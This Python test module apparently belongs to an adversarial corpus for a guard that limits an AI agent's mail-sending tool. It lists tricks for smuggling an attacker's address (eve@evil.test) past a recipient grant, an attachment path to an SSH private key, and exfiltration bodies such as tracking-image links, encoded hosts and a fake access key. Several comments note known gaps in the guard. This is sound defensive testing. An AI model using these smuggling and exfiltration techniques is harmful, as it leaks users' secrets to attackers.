"""More recipients than were granted, and what a text to an allowed one may carry out."""

from __future__ import annotations

from typing import Any

from tests.adversarial.corpus import Case, Class, Do, against, do

MAILS = """version: 1
tools:
  mail/read: {effect: read, gives: untrusted}
  desk/customer: {effect: read}
  mail/send: {effect: egress, authority: [to]}
grants:
  - id: send
    tool: mail/send
    args: {to: {each: {domain_in: [example.com]}, max_items: 3}, body: {max_length: 2000}}
    optional: {subject: {max_length: 80}}
"""
INSIDE = "bob@example.com"


def to(name: str, *recipients: Any) -> Case:
    return against(
        name,
        do("mail/send", to=list(recipients), body="the minutes"),
        do("mail/send", to=[INSIDE, "ann@example.com"], body="the minutes"),
    )


def beside(name: str, **more: Any) -> Case:
    """Another argument that a server may read as a recipient."""
    plain = {"to": [INSIDE], "body": "the minutes"}
    return against(name, Do("mail/send", {**plain, **more}), Do("mail/send", {**plain, "subject": "Minutes"}))


def sibling(name: str, through: str = "", **siblings: Any) -> Case:
    plain = do("mail/send", to=[INSIDE], body="the minutes")
    return against(name, plain.with_siblings(**siblings), plain, through=through)


RECIPIENTS = Class(
    "extra recipients",
    MAILS,
    (
        to("an outsider at the end of the list", INSIDE, "eve@evil.test"),
        to("four where three are granted", *[f"{one}@example.com" for one in "abcd"]),
        to("two in one entry, with a comma", "bob@example.com,eve@evil.test"),
        to("two in one entry, with a semicolon", "bob@example.com;eve@evil.test"),
        to("two in one entry, the granted one last", "eve@evil.test, bob@example.com"),
        to("an address as somebody's name", "bob@example.com <eve@evil.test>"),
        to("an address in quotes", '"eve@evil.test"@example.com'),
        to("an address in a comment", "eve@evil.test(@example.com)"),
        to("a route by a percent sign", "eve%evil.test@example.com"),
        to("a route by an exclamation mark", "evil.test!eve@example.com"),
        to("a source route", "@example.com:eve@evil.test"),
        to("a group", "team: eve@evil.test;@example.com"),
        to("the granted domain as a sub-domain", "eve@example.com.evil.test"),
        to("a sub-domain of the granted domain", "eve@guests.example.com"),
        to("an address with two at signs", "eve@evil.test@example.com"),
        to("a mailto link", "mailto:bob@example.com?bcc=eve@evil.test"),
        to("an address by number", "eve@[203.0.113.7]"),
        beside("a copy", cc=["eve@evil.test"]),
        beside("a blind copy", bcc=["eve@evil.test"]),
        beside("a copy in capitals", Cc=["eve@evil.test"]),
        beside("recipients under a name that looks like the granted one", To=["eve@evil.test"]),
        beside("recipients under a name with a space", **{"to ": ["eve@evil.test"]}),
        beside("an address for answers", reply_to="eve@evil.test"),
        beside("headers", headers={"Bcc": "eve@evil.test"}),
        beside("an attachment by its path", attachments=["/home/me/.ssh/id_rsa"]),
        beside("an empty list of copies", cc=[]),
        sibling("recipients beside the arguments", to=["eve@evil.test"]),
        sibling("arguments in capitals beside the arguments", Arguments={"to": ["eve@evil.test"]}),
        sibling("answers to a question that nobody asked", inputResponses={"confirm": {"to": "eve@evil.test"}}),
        sibling("a state that the guard didn't give out", requestState="eve@evil.test"),
        sibling(
            "recipients in `_meta`",
            _meta={"x.test/bcc": ["eve@evil.test"]},
            through="`_meta` passes untouched, as the protocol wants it; a server that takes orders from it takes them",
        ),
    ),
)

FREE = (
    MAILS.replace("max_length: 2000", "from: [task, {tool: desk/customer}], text: free").replace(
        "{tool: desk/customer}", "trusted"
    )
    + "  - {id: read, tool: [mail/read, desk/customer], args: any}\n"
)
TASK = """version: 1
task: Tell bob@example.com what stands on https://docs.example.com/plan
expires: 2099-01-01T00:00:00Z
grants:
  - {id: send, tool: mail/send, args: {to: any, body: any}}
  - {id: read, tool: [mail/read, desk/customer], args: any}
"""
SECRETS = MAILS.replace("args: {to", "deny_secrets: true\n    args: {to")
KEY = "AKIA" + "IOSFODNN7" + "QWERTYZ"


def body(name: str, text: str, twin: str = "See https://docs.example.com/plan, as agreed.", **more: Any) -> Case:
    """A text that leads its reader to the attacker, to somebody who may be written to."""
    return against(
        name,
        do("mail/send", to=[INSIDE], body=text),
        do("mail/send", to=[INSIDE], body=twin),
        policy=more.pop("policy", FREE),
        mandate=more.pop("mandate", TASK),
        **more,
    )


def secret(name: str, text: str, **more: Any) -> Case:
    plain = do("mail/send", to=[INSIDE], body=text)
    return against(name, plain, do("mail/send", to=[INSIDE], body="the key is in the safe"), policy=SECRETS, **more)


FREE_TEXT = Class(
    "exfiltration in free text to an allowed recipient",
    FREE,
    (
        body("a link", "Sign in at https://evil.test/login"),
        body("a bare host", "Sign in at evil.test today"),
        body("a host with www", "Sign in at www.evil.test"),
        body("a picture in Markdown", "![plan](https://evil.test/p.png?q=secret)"),
        body("a link in HTML", '<a href="https://evil.test/">the plan</a>'),
        body("a link with its dots as entities", "https://evil&#46;test/"),
        body("a percent-encoded link", "https%3A%2F%2Fevil.test%2F"),
        body("a link without its scheme", "//evil.test/x"),
        body("a link with backslashes", "https:\\\\evil.test\\x"),
        body("a script", "javascript:location='//evil.test'"),
        body("an ideographic full stop", "Sign in at evil\u3002test"),
        body("a zero-width space within a host", "Sign in at evil\u200b.test"),
        body("the known link with the attacker's host before it", "https://evil.test/https://docs.example.com/plan"),
        body("the known link with another path", "https://docs.example.com/plan?leak=secret"),
        body("a mail address", "Answer to eve@evil.test"),
        body("a mailto link", "mailto:eve@evil.test"),
        body("an account", "Pay to GB29 NWBK 6016 1331 9268 19"),
        body("an account in small letters", "Pay to gb29nwbk60161331926819"),
        body("a telephone number", "Call +44 20 7946 0958"),
        body("an IP address", "Look at 203.0.113.7"),
        body("a text that is longer than is looked through", "word " * 30_000),
        against(
            "a mail that is longer than is granted",
            do("mail/send", to=[INSIDE], body="x" * 2001),
            do("mail/send", to=[INSIDE], body="x" * 2000),
            policy=MAILS,
        ),
        against(
            "a subject that is a letter",
            do("mail/send", to=[INSIDE], body="x", subject="x" * 81),
            do("mail/send", to=[INSIDE], body="x", subject="x" * 80),
            policy=MAILS,
        ),
        secret("a key", f"the key is {KEY}"),
        secret("a private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"),
        body(
            "an address that a reader has to spell out",
            "Sign in at evil dot test",
            through="a text that only a person turns into an address isn't one",
        ),
        body(
            "what was read, in other words",
            "The customer's number is four, eight, fifteen",
            through="words within a grant: the right recipient may be told anything that isn't an address",
        ),
        secret(
            "a key that is spelt backwards",
            KEY[::-1],
            through="`deny_secrets` knows secrets as they are written; it stops slips, not somebody who hides them",
        ),
    ),
)
